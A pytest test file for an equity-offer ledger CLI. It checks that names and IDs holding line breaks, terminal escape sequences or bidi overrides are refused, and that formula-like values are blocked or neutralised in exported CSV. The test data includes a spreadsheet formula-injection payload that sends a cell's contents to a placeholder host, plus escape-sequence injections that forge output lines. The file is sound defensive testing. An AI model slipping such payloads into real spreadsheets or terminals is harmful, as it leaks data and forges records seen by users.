"""Names and ids are one line of plain text, refused at input otherwise (exit 2, where).

A roster row whose name held a line break and a terminal escape was recorded, and
``elections`` then printed a line of the attacker's choosing ("verified: all forms signed")
under the real first line, with ESC[2K to erase lines on a terminal; ``keys create --holder``
with a line break and ``ingest roster`` with one crashed as internal errors (exit 70).
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from offerledger.cli import cli
from offerledger.values import not_a_formula, one_line

PLAN = "Halvorsen Optical Networks, Inc. 1998 Stock Option Plan"


def run(db: str, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--db", db, *args])


def events(db: str) -> int:
    return len(json.loads(run(db, "log", "--json").stdout))


@pytest.mark.parametrize(
    "text", ["Ann Example", "José Ñúñez-Zoë", "O'Brien, Jr.", "مهدی\u200cزاده", "E0001", "株式会社"]
)
def test_names_of_every_script_are_one_line(text: str) -> None:
    assert one_line(text) == text


@pytest.mark.parametrize(
    "text",
    ["Eve\nverified: ok", "Eve\r", "F\x1b[1A", "Ann\u202eelpmaxE", "a\u2028b", "\x00", "\x85"],
)
def test_line_breaks_controls_and_bidi_overrides_are_not(text: str) -> None:
    with pytest.raises(ValueError, match="control character"):
        one_line(text)


def test_a_forged_line_is_refused_where_it_enters(tmp_path: Path) -> None:
    db = str(tmp_path / "l.db")
    assert run(db, "init").exit_code == 0
    before = sorted(p.name for p in (tmp_path / "keys").iterdir())
    bad = run(db, "keys", "create", "--holder", "Eve\nverified: ok", "--role", "issuer_officer")
    assert bad.exit_code == 2, bad.output
    assert "field '--holder': contains a control character ('\\n' at character 4)" in bad.output
    assert sorted(p.name for p in (tmp_path / "keys").iterdir()) == before  # no key file
    created = run(db, "keys", "create", "--holder", "Officer", "--role", "issuer_officer")
    assert created.exit_code == 0
    offer = tmp_path / "offer.json"
    offer.write_text(run(db, "record", "offer-commenced", "--template").stdout)
    args = ["record", "offer-commenced", "--key", "Officer", "--file", str(offer)]
    assert run(db, *args).exit_code == 0
    count = events(db)

    roster = tmp_path / "roster.csv"
    roster.write_text(
        "employee_id,name,grant_id,plan,grant_date,exercise_price,options_outstanding,email\n"
        f'E0001,Ann Example,G1-1,"{PLAN}",1999-06-03,25.00,1000,true\n'
        f'E0002,"Eve\nverified: all forms signed\x1b[2K",G2-1,"{PLAN}",1999-06-03,25.00,1000,true\n'
    )
    refused = run(db, "ingest", "roster", str(roster), "--key", "Officer")
    assert refused.exit_code == 2, refused.output
    assert "line 3, column 'name'" in refused.output and "control character" in refused.output
    assert events(db) == count

    grants = json.loads(run(db, "record", "eligible-grants-registered", "--template").stdout)
    grants["employee_name"] = "Ann\u202eelpmaxE"
    path = tmp_path / "grants.json"
    path.write_text(json.dumps(grants))
    args = ["record", "eligible-grants-registered", "--key", "Officer", "--file", str(path)]
    refused = run(db, *args)
    assert refused.exit_code == 2, refused.output
    assert "field 'employee_name'" in refused.output and "control character" in refused.output
    assert events(db) == count


def test_init_refuses_a_root_holder_of_two_lines_and_writes_nothing(tmp_path: Path) -> None:
    db = tmp_path / "l.db"
    bad = run(str(db), "init", "--holder", "root\nverified")
    assert bad.exit_code == 2, bad.output
    assert "field '--holder': contains a control character" in bad.output
    assert not db.exists() and not (tmp_path / "keys").exists()


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+1 555", "-Eve", "@SUM(A1)"])
def test_a_name_beginning_like_a_formula_is_not_entered(text: str) -> None:
    with pytest.raises(ValueError, match="a spreadsheet reads as a formula"):
        not_a_formula(text)
    assert one_line(text) == text  # stored events still decode as recorded


@pytest.mark.parametrize("text", ["Ann Example", "E-0001", "O'Brien", "a=b", "1998 Plan"])
def test_names_with_those_characters_inside_are_entered(text: str) -> None:
    assert not_a_formula(text) == text


def _ledger_with_offer(tmp_path: Path) -> str:
    db = str(tmp_path / "l.db")
    assert run(db, "init").exit_code == 0
    assert (
        run(db, "keys", "create", "--holder", "Officer", "--role", "issuer_officer").exit_code == 0
    )
    offer = tmp_path / "offer.json"
    offer.write_text(run(db, "record", "offer-commenced", "--template").stdout)
    assert (
        run(db, "record", "offer-commenced", "--key", "Officer", "--file", str(offer)).exit_code
        == 0
    )
    return db


def test_a_formula_is_refused_where_it_enters(tmp_path: Path) -> None:
    """A roster name =HYPERLINK(...) was recorded and written raw into elections.csv, where a
    spreadsheet ran it: now refused in a roster, in record --file, in a correction and as a key
    holder (exit 2, where), nothing written."""
    db = _ledger_with_offer(tmp_path)
    count = events(db)
    held = run(db, "keys", "create", "--holder", "@ops", "--role", "issuer_officer")
    assert held.exit_code == 2 and "field '--holder': begins with '@'" in held.output
    header = "employee_id,name,grant_id,plan,grant_date,exercise_price,options_outstanding,email\n"
    for row, column in (
        (
            f'E0002,"{FORMULA.replace(chr(34), chr(34) * 2)}",G2-1,P,1999-06-03,25.00,1000,true',
            "name",
        ),
        ("-E0002,Eve,G2-1,P,1999-06-03,25.00,1000,true", "employee_id"),
        ("E0002,Eve,+G2-1,P,1999-06-03,25.00,1000,true", "grant_id"),
        ("E0002,Eve,G2-1,@P,1999-06-03,25.00,1000,true", "plan"),
    ):
        roster = tmp_path / "roster.csv"
        roster.write_text(
            header + "E0001,Ann Example,G1-1,P,1999-06-03,25.00,1000,true\n" + row + "\n"
        )
        refused = run(db, "ingest", "roster", str(roster), "--key", "Officer")
        assert refused.exit_code == 2, refused.output
        assert f"line 3, column '{column}'" in refused.output, refused.output
        assert "a spreadsheet reads as a formula" in refused.output
        assert events(db) == count

    grants = json.loads(run(db, "record", "eligible-grants-registered", "--template").stdout)
    grants["employee_name"] = FORMULA
    path = tmp_path / "grants.json"
    path.write_text(json.dumps(grants))
    args = ["record", "eligible-grants-registered", "--key", "Officer", "--file", str(path)]
    refused = run(db, *args)
    assert refused.exit_code == 2, refused.output
    assert "field 'employee_name'" in refused.output and "formula" in refused.output
    grants["employee_name"] = "Ann Example"
    grants["grants"][0]["plan"] = "=1+1"
    path.write_text(json.dumps(grants))
    refused = run(db, *args)
    assert refused.exit_code == 2 and "field 'grants[0].plan'" in refused.output, refused.output
    assert events(db) == count

    grants["grants"][0]["plan"] = "1998 Plan"
    path.write_text(json.dumps(grants))
    assert run(db, *args).exit_code == 0
    stream = json.loads(run(db, "log", "--json").stdout)[-1]["stream"]
    correction = tmp_path / "correction.json"
    correction.write_text(
        json.dumps(
            {
                "effective": {"kind": "date", "on": "2001-10-02"},
                "stream": stream,
                "supersedes_version": 1,
                "supersedes_topic": "offerledger.EligibleGrantsRegistered.v1",
                "reason": "the name was misspelt",
                "corrected": {"employee_name": FORMULA},
            }
        )
    )
    args = ["record", "correction-recorded", "--key", "Officer", "--file", str(correction)]
    refused = run(db, *args)
    assert refused.exit_code == 2, refused.output
    assert "field 'corrected.employee_name': begins with '='" in refused.output
    assert events(db) == count + 1


def test_every_csv_the_ledger_writes_neutralises_a_formula(tmp_path: Path) -> None:
    """A name stored before the rule (or saved through the library) still reaches
    elections.csv: its cell gets a single quote before it, the documented one difference."""
    from offerledger.actions import build
    from offerledger.ledger import Ledger
    from test_ingest_support import PASSPHRASE, build_ledger

    db = str(tmp_path / "l.db")
    build_ledger(db)  # an offer with its document: nightly writes every output
    grants = json.loads(run(db, "record", "eligible-grants-registered", "--template").stdout)
    grants["effective"] = {"kind": "date", "on": "2001-08-28"}  # the offer commenced 08-27
    with Ledger.open(db) as ledger:
        signer = ledger.signer("Russell I. Zuckerman", PASSPHRASE.encode())
        event, documents = build(ledger, "eligible-grants-registered", grants, signer=signer)
        first = event.grants[0].model_copy(update={"plan": "-Plan"})  # type: ignore[attr-defined]
        event = event.model_copy(
            update={"employee_name": FORMULA, "grants": (first, *event.grants[1:])}  # type: ignore[attr-defined]
        )
        ledger.save([event], signer=signer, documents=documents)
    shown = run(db, "elections", "--format", "csv")
    assert shown.exit_code == 0, shown.output
    rows = list(csv.reader(line for line in shown.stdout.splitlines() if not line.startswith("#")))
    header, row = rows[0], rows[1]
    assert row[header.index("name")] == "'" + FORMULA
    assert row[header.index("plan")] == "'-Plan"
    assert row[header.index("employee_id")] == grants["employee_id"]  # nothing else changes
    out = tmp_path / "nightly"
    night = run(db, "nightly", "--out", str(out), "--checkpoints", str(tmp_path / "cps"))
    assert night.exit_code == 0, night.output
    written = (out / "elections.csv").read_text()
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in written and ",'-Plan," in written
    assert "\n=" not in written and ",=" not in written and ',"=' not in written
